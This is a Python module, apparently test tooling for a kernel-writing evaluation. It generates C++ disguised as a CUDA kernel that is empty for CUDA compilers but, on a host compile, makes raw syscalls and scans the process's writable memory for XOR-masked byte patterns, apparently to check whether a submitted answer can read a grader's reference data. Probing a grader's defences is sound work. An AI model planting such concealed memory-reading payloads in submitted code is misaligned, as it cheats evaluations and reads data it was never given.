"""Hostile C++ in the place of an answer, which no policy has read, for x86_64: it calls the system and reads memory."""

from __future__ import annotations

import struct
from pathlib import Path

SYSTEM_CALL = """
#ifndef __CUDACC_RTC__
extern "C" long syscall(long number, ...);
extern "C" int* __errno_location();
static long call_0(long number, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
{
    long result = syscall(number, a, b, c, d, e, f);
    return result == -1 ? -*__errno_location() : result;
}
#endif
"""

SCAN = """
#ifndef __CUDACC_RTC__
static const int needles_0 = COUNT;
static volatile unsigned char mask_0 = 0x5a;
static const unsigned char masked_0[COUNT][8] = MASKED;
static float found_0[COUNT + 1];
static unsigned char first_0[256];

static const unsigned long ranges_0[][2] = RANGES;

static bool readable_0(unsigned long page) { return call_0(14, 1, page, 0, 8) == 0; }  // rt_sigprocmask, SIG_UNBLOCK

static void search_0(unsigned long start, unsigned long end)
{
    found_0[COUNT] += 1.0f;
    const unsigned char* last = (const unsigned char*)end - 8;
    for (const unsigned char* at = (const unsigned char*)start; at <= last; ++at) {
        if (!first_0[*at]) continue;
        for (int n = 0; n < needles_0; ++n) {
            int same = 0;
            while (same < 8 && (unsigned char)(at[same] ^ mask_0) == masked_0[n][same]) ++same;
            if (same == 8) found_0[n] += 1.0f;
        }
    }
}

static void scan_0(float* results)
{
    for (int n = 0; n < COUNT; ++n) first_0[masked_0[n][0] ^ mask_0] = 1;
    unsigned long done = 0;
    for (int r = 0; r < sizeof(ranges_0) / sizeof(ranges_0[0]); ++r) {
        unsigned long from = ranges_0[r][0], end = ranges_0[r][1];
        while (from - 4096 >= done && readable_0(from - 4096)) from -= 4096;  // memory that has grown since
        for (unsigned long page = from; page < end || readable_0(page); page += 4096)
            if (page >= done && readable_0(page)) {
                search_0(page, page + 4096 + (readable_0(page + 4096) ? 7 : 0));
                done = page + 4096;
            }
    }
    for (int n = 0; n <= COUNT; ++n) results[n] = found_0[n];
}
#endif
"""


def kernel(parameters: str, statement: str, before: str = "") -> str:
    """Return a kernel in which the thread that runs first executes a statement; compilers for CUDA see an empty one."""
    return (
        f"{SYSTEM_CALL}{before}\n\n"
        f'extern "C" __global__ void shift_cuda_kernel_forward(\n{parameters})\n{{\n'
        f"#ifndef __CUDACC_RTC__\n    if (blockIdx.x == 0 && threadIdx.x == 0) {{ {statement} }}\n#endif\n}}\n"
    )


def scanner(parameters: str, needles: list[bytes], ranges: list[tuple[int, int]]) -> str:
    """Return a kernel that counts needles of eight bytes in ranges of memory, and in what is mapped next to them.

    The first elements of ``y`` receive the counts, and the number of pages read. The text contains the needles under a mask, so
    that it does not find itself.
    """
    assert all(len(needle) == 8 for needle in needles)
    masked = ", ".join("{" + ", ".join(str(byte ^ 0x5A) for byte in needle) + "}" for needle in needles)
    listed = ", ".join(f"{{{start:#x}, {end:#x}}}" for start, end in ranges)
    scan = SCAN.replace("COUNT", str(len(needles))).replace("MASKED", f"{{{masked}}}").replace("RANGES", f"{{{listed}}}")
    return kernel(parameters, "scan_0(var_y.data);", scan)


def floats(*numbers: float) -> bytes:
    """Return numbers as bytes of single precision."""
    return struct.pack(f"={len(numbers)}f", *numbers)


def writable_ranges(process: int) -> list[tuple[int, int]]:
    """Return the ranges of memory that a process may write, in order: its stack, its heap, and memory without a file."""
    lines = Path(f"/proc/{process}/maps").read_text(encoding="utf-8").splitlines()
    ranges = (line.split()[0].split("-") for line in lines if line.split()[1].startswith("rw"))
    return [(int(start, 16), int(end, 16)) for start, end in ranges]
